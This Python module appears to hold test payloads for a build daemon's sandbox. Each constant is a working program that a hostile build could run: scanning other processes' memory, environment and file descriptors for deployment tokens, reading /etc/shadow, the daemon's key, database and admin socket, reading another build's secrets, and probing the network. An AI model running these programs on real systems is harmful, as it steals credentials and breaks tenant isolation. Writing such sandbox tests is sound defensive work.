"""What a hostile build tries against the machine that it runs on: each is a Python program that prints its loot.

``DATA`` is the daemon's data directory, ``PORT`` its port, ``ANOTHER`` the id of another deployment that builds now.
The programs know all of it, as somebody who knows the product well would guess it.
"""

from typing import Final

#: Of a machine with many processes (no sandbox) only those that we descend from, else all.
_PEOPLE: Final = """
import os, re, socket
from pathlib import Path
def ancestors():
    pid = os.getpid()
    while pid > 1:
        pid = int(Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()[1])
        yield pid
def others():
    seen = [int(name) for name in os.listdir("/proc") if name.isdigit() and int(name) != os.getpid()]
    return seen if len(seen) < 50 else list(ancestors())
def attempt(read):
    try:
        return read()
    except OSError as error:
        return b""
"""
#: How a token of a build begins: the base64 of '["dpl_'.
_TOKEN: Final = 'TOKEN = re.compile(rb"WyJkcGxf[\\w-]{20,}\\.[\\w-]+\\.[\\w-]{20,}")\n'
_ASK: Final = """
def ask(family, address, request=b"GET /api/v1/projects HTTP/1.0\\r\\nHost: localhost\\r\\n\\r\\n", patience_s=1):
    try:
        with socket.socket(family) as client:
            client.settimeout(patience_s)
            client.connect(address)
            client.sendall(request)
            return client.recv(4096).decode(errors="replace")
    except TimeoutError:  # what is open may be slow on a busy machine
        return ask(family, address, request, 10) if patience_s < 10 else "TimeoutError\\n"
    except OSError as error:
        return f"{type(error).__name__}\\n"
"""

TOKEN_IN_MEMORY: Final = (
    _PEOPLE
    + _TOKEN
    + """
def memory(pid):
    for line in Path(f"/proc/{pid}/maps").read_text().splitlines():
        words = line.split()
        if words[1].startswith("rw"):
            start, end = (int(word, 16) for word in words[0].split("-"))
            with open(f"/proc/{pid}/mem", "rb", 0) as file:
                file.seek(start)
                yield attempt(lambda: file.read(min(end - start, 64 << 20)))
for pid in others():
    for part in ("environ", "cmdline"):
        print(TOKEN.findall(attempt(Path(f"/proc/{pid}/{part}").read_bytes)))
    for link in attempt(lambda: list(Path(f"/proc/{pid}/fd").iterdir())):
        def read(link=link):
            fd = os.open(link, os.O_RDONLY | os.O_NONBLOCK)
            try:
                return os.read(fd, 4096)
            finally:
                os.close(fd)
        print(TOKEN.findall(attempt(read)))
    found = attempt(lambda: [match for part in memory(pid) for match in TOKEN.findall(part)])
    print([match.decode() for match in found])
"""
)
SHADOW: Final = 'print(open("/etc/shadow").read(200))'
ADMIN_SOCKET: Final = _PEOPLE + _ASK + 'print(ask(socket.AF_UNIX, f"{DATA}/run/admin.sock"))'
DATABASE: Final = 'print(open(f"{DATA}/scalemesh.db", "rb").read(15).decode())'
KEY: Final = 'print(open(f"{DATA}/key", "rb").read().hex())'
BLOBS: Final = """
from pathlib import Path
for path in Path(DATA, "store", "blobs").rglob("*"):
    if path.is_file():
        print(path.read_bytes())
"""
ANOTHER_BUILD: Final = (
    _PEOPLE
    + """
places = [f"{DATA}/jobs/{ANOTHER}/work/src/secret.txt"]
places += [f"/proc/{pid}/{way}/secret.txt" for pid in others() for way in ("cwd", "root/work/src")]
for place in places:
    print(attempt(Path(place).read_bytes).decode())
"""
)
WORDS_OF_PROCESSES: Final = _PEOPLE + 'for pid in others(): print(Path(f"/proc/{pid}/cmdline").read_bytes())'
PLANT: Final = 'open(f"{DATA}/planted", "w").write("here")'
DAEMONS_PORT: Final = _PEOPLE + _ASK + 'print(ask(socket.AF_INET, ("127.0.0.1", PORT)))'


def reach(addresses: tuple[str, ...], port: int) -> str:
    """A program that names those of *addresses* that answer."""
    return f"""{_PEOPLE}{_ASK}
from concurrent.futures import ThreadPoolExecutor
def answers(address):
    family = socket.AF_INET6 if ":" in address else socket.AF_INET
    return "reached" in ask(family, (address, {port}))
with ThreadPoolExecutor(8) as pool:
    addresses = {addresses!r}
    print(*(address for address, yes in zip(addresses, pool.map(answers, addresses)) if yes))
"""
